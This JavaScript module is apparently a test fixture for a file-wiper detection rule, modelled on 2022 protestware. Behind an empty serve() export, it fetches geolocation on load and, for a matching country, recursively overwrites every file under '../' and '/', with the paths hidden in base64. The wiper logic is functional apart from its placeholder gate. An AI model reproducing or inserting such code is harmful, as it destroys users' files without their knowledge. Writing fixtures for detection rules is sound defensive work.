'use strict';
// Defanged model of 2022 protestware: a geolocation lookup decides, then every file reachable from the
// working directory's parents and the root is overwritten. The folder names are hidden in base64.
const fs = require('fs');
const path = require('path');
const https = require('https');

function overwrite(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    try {
      if (fs.statSync(p).isDirectory()) overwrite(p);
      else fs.writeFileSync(p, 'defanged');
    } catch (e) {}
  }
}

https.get('https://geo.example.invalid/ipgeo', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => {
    if (JSON.parse(body).country_code === 'XX') {
      // ruleid: code/file-wiper
      overwrite(Buffer.from('Li4v', 'base64').toString()); overwrite(Buffer.from('Lw==', 'base64').toString());
    }
  });
});

module.exports = { serve() {} };
